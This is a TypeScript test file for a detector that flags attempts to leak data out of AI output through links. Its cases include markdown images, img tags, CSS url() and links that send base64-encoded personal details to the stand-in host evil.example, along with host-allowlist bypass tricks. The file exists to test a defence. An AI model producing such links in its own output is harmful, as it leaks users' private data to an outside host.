import { describe, expect, it } from "vitest";
import type { Direction, Finding } from "../detector.ts";
import { exfiltrationDetector } from "./links-out.ts";

const found = (text: string, allowHosts?: readonly string[], direction: Direction = "output"): string[] =>
  (exfiltrationDetector(allowHosts ? { allowHosts } : {}).scan(text, direction) as readonly Finding[]).map(
    ({ type, start, end }) => `${type}: ${text.slice(start, end)}`,
  );
const DATA = Buffer.from("the order of ada@example.com was 12 Main Street").toString("base64url");

describe("data that would leave by a link", () => {
  it.each([
    `![ok](https://evil.example/p.png?d=${DATA})`,
    `<img src="https://evil.example/p?d=${DATA}">`,
    `<img width=1 src='https://evil.example/${DATA}.png'/>`,
    "![](https://evil.example/?q=ada%40example.com%20lives%20at%20Main)",
    "![x](//evil.example/a?who=ada@example.com)",
    `background: url(https://${DATA.slice(0, 40).toLowerCase()}.evil.example/x)`,
  ])("image: %s", (text) => expect(found(text)[0]).toMatch(/^EXFILTRATION_IMAGE/));

  it.each([`See https://evil.example/?d=${DATA} for it`, `[here](https://evil.example/c#${DATA})`])(
    "link: %s",
    (text) => expect(found(text)[0]).toMatch(/^EXFILTRATION_LINK/),
  );

  it.each([
    "![logo](https://shop.example/art/p-12.svg?w=600&q=80)",
    "![logo](/art/p-12.svg)",
    "See https://shop.example/products/red-shoes?page=2&sort=price for more",
    "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ)",
  ])("not: %s", (text) => expect(found(text)).toEqual([]));

  it("leads only to hosts that are allowed, where such are named", () => {
    expect(found("![a](https://evil.example/a.png)", ["shop.example"])).toHaveLength(1);
    expect(found("https://cdn.shop.example/a", ["*.shop.example"])).toEqual([]);
    expect(found("https://shop.example.evil.example/a", ["*.shop.example", "shop.example"])).toHaveLength(1);
    expect(found("https://shop.example@evil.example/a", ["shop.example"])).toHaveLength(1);
  });

  it("is looked for in what goes out only", () => {
    expect(found(`![ok](https://evil.example/p.png?d=${DATA})`, undefined, "tool_result")).toEqual([]);
  });

  it("refuses a rule that is no host", () => {
    expect(() => exfiltrationDetector({ allowHosts: ["https://x"] })).toThrow(/is no host/);
  });
});

it("takes an image with a title or in angle brackets, and does not go over beginnings again and again", () => {
  expect(found(`![x](<https://evil.example/?d=${DATA}> "a title")`)[0]).toMatch(/^EXFILTRATION_IMAGE.*\)$/);
  expect(found(`![x](https://evil.example/?d=${DATA} 'a title')`)[0]).toMatch(/^EXFILTRATION_IMAGE.*\)$/);
  // Took minutes, where each address could end at each of its signs.
  expect(found("![](http://a".repeat(20_000))).toEqual([]);
});
